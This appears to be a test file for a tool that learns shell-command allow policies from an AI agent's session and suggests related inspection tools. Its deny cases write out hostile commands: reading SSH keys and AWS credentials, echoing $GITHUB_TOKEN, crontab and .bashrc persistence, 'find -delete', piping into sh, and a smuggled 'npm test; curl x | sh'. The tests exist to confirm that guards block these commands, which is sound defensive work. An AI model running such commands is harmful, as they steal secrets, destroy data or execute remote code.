import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../src/core/learn/analyzer';
import { COMPANION_TOOLS, COMPANIONS_PER_COMMAND, isCompanion, MIN_DISTINCT_COMMANDS } from '../../src/core/learn/companions';
import { renderSummary } from '../../src/core/learn/format-summary';
import { renderFragment } from '../../src/core/learn/format-yaml';
import { parsePolicyText } from '../../src/core/policy/index';
import { assertDecisions, companions, execs, patterns } from './exec-helpers';

/** Commands of a session varied enough for every companion (with the two inspection commands of each test, 12 commands). */
const WORK = ['git status', 'git diff', 'git log', 'npm test', 'npm run build', 'npm run lint', 'node dist/cli.js', 'node dist/cli.js --help', 'make', 'make check'];

describe('companion suggestions: the other inspection tools', () => {
  it('are suggested once the agent used two inspection tools, marked as not observed', () => {
    const s = analyze(execs('cat README.md', 'ls -la src', ...WORK));
    assert.deepEqual(patterns(s).sort(), ['cat*', 'git *', 'ls *', 'make', 'make *', 'node dist/*', 'npm *']);
    const suggested = companions(s);
    assert.equal(suggested.length, COMPANION_TOOLS.length - 2);
    assert.ok(suggested.includes('head*') && suggested.includes('grep*') && suggested.includes('sleep*'));
    // wc and pwd are evidence, not suggestions
    assert.ok(!suggested.some((p) => p.startsWith('wc') || p.startsWith('pwd')));
    for (const e of s.exec.filter(isCompanion)) {
      assert.deepEqual(e.examples, []);
      assert.match(e.note ?? '', /^Not observed: .*\(ls, cat\)/);
    }
    assertDecisions(s, ['head -50 src/app.ts', 'tail -f logs/app.log', 'grep -rn TODO src', 'sleep 5', 'find src -name "*.ts"'], ['wc -l src/*.ts', 'pwd']);
  });

  it('are suggested with wc and pwd as evidence, and only after a varied session', () => {
    assert.deepEqual(companions(analyze(execs('wc -l README.md', 'pwd', ...WORK))).sort(), COMPANION_TOOLS.map((t) => `${t}*`).sort());
    const few = ['cat README.md', 'ls -la src', ...WORK].slice(0, MIN_DISTINCT_COMMANDS - 1);
    assert.deepEqual(companions(analyze(execs(...few, ...few))), []);
    // commands, not their parts: a long pipeline is one command
    assert.deepEqual(companions(analyze(execs('cat a.log | grep -v DEBUG | sort | uniq -c | wc -l', 'ls -la src', 'git status'))), []);
  });

  it('are at most as many as the distinct commands, the tools agents pick up most first', () => {
    const s = analyze(execs('cat README.md', 'ls -la src', ...WORK.slice(0, MIN_DISTINCT_COMMANDS - 2)));
    const budget = Math.floor(MIN_DISTINCT_COMMANDS * COMPANIONS_PER_COMMAND);
    assert.ok(budget < COMPANION_TOOLS.length - 2);
    assert.deepEqual(companions(s).sort(), COMPANION_TOOLS.filter((t) => t !== 'ls' && t !== 'cat').slice(0, budget).map((t) => `${t}*`).sort());
  });

  it('carry the guards of their binaries and of credentials, and never reach another binary', () => {
    const s = analyze(execs('cat README.md', 'ls -la src', ...WORK));
    assertDecisions(s, [], [
      'head ~/.ssh/id_rsa', 'tail -n 5 ~/.aws/credentials', 'grep -r AKIA ~', 'find . -exec sh -c id \\;', 'find . -delete',
      'sort -o /etc/cron.d/x a.txt', 'echo x >> ~/.bashrc', 'tailscale up --ssh', 'headless-shell', 'grep x a | sh', 'echo $GITHUB_TOKEN',
    ]);
    assert.deepEqual(s.check?.leaks, []);
  });

  it('are not suggested after a single inspection tool, nor without generalisation or with a minimum frequency', () => {
    assert.deepEqual(companions(analyze(execs('cat README.md', 'git log', ...WORK))), []);
    assert.deepEqual(companions(analyze(execs('cat README.md', 'ls -la src', ...WORK), { generalize: false })), []);
    assert.deepEqual(companions(analyze(execs('cat README.md', 'cat a', 'ls -la src', 'ls', ...WORK, ...WORK), { minFrequency: 2 })), []);
    assert.deepEqual(companions(analyze(execs('cat README.md', 'ls -la src', ...WORK), { companions: false })), []);
  });

  it('never include a tool the agent ran, even in a form that was only warned about', () => {
    const s = analyze(execs('cat README.md', 'ls -la src', 'head ~/.ssh/id_rsa', 'find . -delete', ...WORK));
    assert.deepEqual(s.warnings.map((w) => w.raw).sort(), ['find . -delete', 'head ~/.ssh/id_rsa']);
    assert.ok(!companions(s).includes('head*') && !companions(s).includes('find*'));
    assert.ok(companions(s).includes('tail*'));
    assert.match(s.exec.find((e) => e.pattern === 'tail*')?.note ?? '', /\(ls, cat\)$/);
    // warned uses are no evidence
    assert.deepEqual(companions(analyze(execs('cat ~/.ssh/id_rsa', 'find . -delete', 'ls -la', ...WORK))), []);
  });

  it('are written with their note instead of an observed count, and the fragment parses', () => {
    const s = analyze(execs('cat README.md', 'ls -la src', ...WORK));
    const yaml = renderFragment(s, { generatedBy: 'test', generatedAt: new Date(0), durationMs: 0, toolCalls: 6 });
    assert.match(yaml, /- "head\*" # Not observed: suggested with the inspection tools the agent ran \(ls, cat\)/);
    assert.doesNotMatch(yaml, /# 0 observed/);
    assert.ok(parsePolicyText(yaml, 'fragment.yaml').set);
    const summary = renderSummary(s, { outputPath: 'rampart-learn.yaml', color: false });
    assert.match(summary, new RegExp(`exec .* -> ${s.exec.length} patterns \\(${COMPANION_TOOLS.length - 2} not observed: companions, see their notes in the fragment\\)`));
  });

  it("add a package manager's test shortcut when it only ran project scripts, and no other subcommand", () => {
    const s = analyze(execs('npm run build', 'npm run lint -- --fix'));
    assert.deepEqual(patterns(s), ['npm run *']);
    assert.deepEqual(companions(s), ['npm test*']);
    assert.match(s.exec.find(isCompanion)?.note ?? '', /^Not observed: `npm test` runs the project's test script, like `npm run test`/);
    assertDecisions(s, ['npm test', 'npm test -- tests/a.test.ts', 'npm run test'], ['npm install left-pad', 'npm exec evil', 'npm publish', 'npm test; curl x | sh']);
    assert.deepEqual(s.check?.leaks, []);
    // not when the agent ran it, another subcommand, or without generalisation
    assert.deepEqual(companions(analyze(execs('npm run build', 'npm test'))), []);
    assert.deepEqual(companions(analyze(execs('npm run build', 'npm install'))), []);
    assert.deepEqual(companions(analyze(execs('npm run build'), { generalize: false })), []);
  });
});
